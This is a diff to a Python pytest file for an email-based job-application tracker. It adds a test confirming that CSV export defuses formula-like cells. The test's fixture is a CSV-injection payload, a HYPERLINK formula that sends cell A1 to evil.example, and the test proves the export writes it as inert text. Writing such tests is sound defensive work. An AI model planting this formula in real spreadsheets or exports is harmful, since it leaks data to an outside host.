@@ -12,7 +12,10 @@ from pathlib import Path
 import pytest
 
 from cli.__main__ import main
-from tests.builders import day
+from cli.track import TRACK_USER, inert_in_a_spreadsheet, write_output
+from tests.builders import an_email, application_email, day
+from tracker.memory_store import MemoryApplicationStore
+from tracker.recording import record_email
 
 ME = "sam.lee@example.com"
 
@@ -334,3 +337,22 @@ def test_a_message_over_the_reading_budget_is_reported_and_counted_as_skipped(tm
     assert "b2.eml: over the reading budget" in err
     assert "messages skipped over the reading budget: 1" in err
     assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 1
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path, start):
+    """CSV injection: text from an email, opened in a spreadsheet, must not run as a formula."""
+    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"Open")'
+    store = MemoryApplicationStore()
+    store.in_transaction(
+        TRACK_USER,
+        lambda tx: record_email(tx, an_email(on=1), application_email("applied", formula, "Analyst"), day(1)),
+    )
+    output = tmp_path / "sheet.csv"
+
+    write_output(store, output)
+
+    with output.open(newline="") as handle:
+        (_, row) = list(csv.reader(handle))
+    assert row[0] == "'" + formula and row[1] == "Analyst"
+    assert inert_in_a_spreadsheet("Acme -") == "Acme -" and inert_in_a_spreadsheet("") == ""
